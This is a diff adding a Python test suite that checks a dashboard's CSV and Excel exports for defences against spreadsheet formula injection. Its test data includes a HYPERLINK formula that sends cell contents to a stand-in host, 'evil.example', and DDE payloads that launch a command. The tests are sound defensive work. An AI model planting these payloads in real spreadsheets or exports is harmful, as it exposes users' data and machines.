@@ -1,0 +1,135 @@
+"""Tables in spreadsheets: text is text, numbers are numbers, and everything comes back."""
+
+import csv as csv_files
+import shutil
+import subprocess
+from base64 import b64decode
+from datetime import date
+from io import BytesIO, StringIO
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import plotly.graph_objects as go
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sim.view.dashboard.downloads import file_of
+from sim.view.figures.files import made_by, read_figures, write_figures
+from sim.view.figures.picture import Picture
+from sim.view.spreadsheets import csv, csv_download, from_csv
+from sim.view.tables import rows
+
+SCRIPT = Path(__file__).parents[2] / "sim" / "view" / "report" / "report.js"
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Check")',
+    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "=1+2",
+    "\t=1", "\r=1", " =1+1", "\n@A1", "\uff1d1+1", "'=1", "''+A1", "--x", "-",
+]  # fmt: skip
+HARMLESS = ["Zürich", "-5", "+3.5", "-1,234.5", "-12%", "a=b", "2024-01-01", "'quoted'", "", "e@mail", "1e-3", "-1e-3"]
+ERRORS = ["#N/A", "#REF!", "#DIV/0!"]
+
+
+def picture(words):
+    """A picture with these words in its first column, in a heading and in its own words."""
+    table = pd.DataFrame(
+        {
+            "words": words,
+            words[0]: pd.Categorical(words),
+            "value": [-1.5] * len(words),
+            "day": pd.to_datetime(["2024-01-02"] * len(words)),
+            "or day": pd.Series([date(2024, 1, 2)] * len(words), dtype=object),
+        }
+    )
+    return Picture("odd", words[0], words[-1], words[0], go.Figure(), table)
+
+
+def saved_csv(words):
+    """The cells of the first column of a saved CSV file."""
+    text = file_of(picture(words), "csv")["content"]
+    assert text.startswith("\ufeff")
+    heading, *lines = csv_files.reader(StringIO(text[1:], newline=""))
+    assert {line[2] for line in lines} == {"-1.5"}
+    assert {line[3] for line in lines} == {"2024-01-02"}
+    return heading, [line[0] for line in lines], [line[1] for line in lines]
+
+
+def test_text_in_csv_is_no_formula():
+    """Text that begins like a formula has an apostrophe before it, in headings and cells; nothing else changes."""
+    words = [text for text in FORMULAS if text not in ("-",)]
+    heading, cells, same = saved_csv([*words, *HARMLESS])
+    assert cells == same
+    assert heading[1][0] == "'"
+    for text in cells[: len(words)]:
+        assert text[0] in "'\\"
+    assert cells[len(words) :] == HARMLESS
+
+
+def test_text_in_excel_is_text():
+    """No cell of an Excel file is a formula or an error; numbers are numbers, days are days."""
+    words = [*FORMULAS, *HARMLESS, *ERRORS]
+    book = openpyxl.load_workbook(BytesIO(b64decode(file_of(picture(words), "xlsx")["content"])))
+    assert book.sheetnames == ["data", "about"]
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert kinds <= {"s", "inlineStr", "n", "d"}  # n: also of empty cells
+    first, *lines = book["data"].iter_rows(values_only=True)
+    assert first[1] == FORMULAS[0]
+    assert [line[0] or "" for line in lines] == [text.replace("\r", r"\r") for text in words]
+    assert {line[2] for line in lines} == {-1.5}
+    assert book["about"]["A1"].value == FORMULAS[0]
+
+
+@pytest.mark.parametrize("odd", ["bell \x07", "\x1b[31m", "none \ufffe", "null\x00"])
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_control_characters_do_no_harm(odd, kind):
+    """They are written out."""
+    content = file_of(picture([odd, "plain"]), kind)["content"]
+    if kind == "csv":
+        content.encode()
+        assert odd not in content
+        assert "plain" in content
+    else:
+        assert openpyxl.load_workbook(BytesIO(b64decode(content)))["data"]["A3"].value == "plain"
+
+
+def test_figures_keep_their_words(tmp_path):
+    """The data of figures that are written to a folder comes back as it was, whatever it begins with."""
+    one = picture([*FORMULAS, *HARMLESS[:-3]])
+    write_figures(tmp_path / "figures", "=1", [one], made_by())
+    [back] = read_figures(tmp_path / "figures").pictures
+    texts = [[cell.replace("\r", "\n") if isinstance(cell, str) else cell for cell in row] for row in rows(one.table)]
+    shown = [[cell.replace("\r", "\n") if isinstance(cell, str) else cell for cell in row] for row in rows(back.table)]
+    assert [[cell or None for cell in row] for row in texts] == shown  # empty text is nothing
+    assert list(back.table) == list(one.table)
+    written = (tmp_path / "figures" / "001-odd.csv").read_text("utf-8")
+    first, *lines = csv_files.reader(StringIO(written, newline=""))
+    assert first[1][0] == lines[0][0][0] == "'"
+
+
+@given(st.lists(st.text("'=+-@ \tax1", min_size=1), min_size=2))
+def test_what_is_written_can_be_read(words):
+    """Whatever text is written comes back; nothing but numbers begins with a sign."""
+    read = pd.read_csv(StringIO(csv(pd.DataFrame({"a": [*words, "x"], "b": ""}))), dtype=str, keep_default_na=False)
+    assert from_csv(read)["a"].tolist() == [*words, "x"]
+    for text in read["a"]:
+        assert text.lstrip()[:1] not in {"=", "@"}
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
+def test_the_page_of_a_report_writes_the_same(tmp_path):
+    """The script of a report's page writes the same cells as the dashboard."""
+    words = [*FORMULAS, *HARMLESS]
+    code = SCRIPT.read_text("utf-8")
+    part = code[code.index("  const FORMULA") : code.index("  function download")]
+    script = tmp_path / "cells.js"
+    script.write_text(f"{part}\nconsole.log([{', '.join(map(ascii, words))}].map(quoted).join('\\r\\n'));", "utf-8")
+    out = subprocess.run(["node", script], capture_output=True, check=True, encoding="utf-8", timeout=60).stdout
+    cells = [line[0] if line else "" for line in csv_files.reader(StringIO(out, newline=""))]
+    expected = csv_files.reader(StringIO(csv(pd.DataFrame({"a": words, "b": "x"})), newline=""))
+    assert cells == [line[0] for line in expected][1:]
+
+
+def test_dashes_stay():
+    """A dash where there is no number is no formula."""
+    assert csv_download(pd.DataFrame({"a": ["-", "+"]})) == "\ufeffa\n-\n+\n"
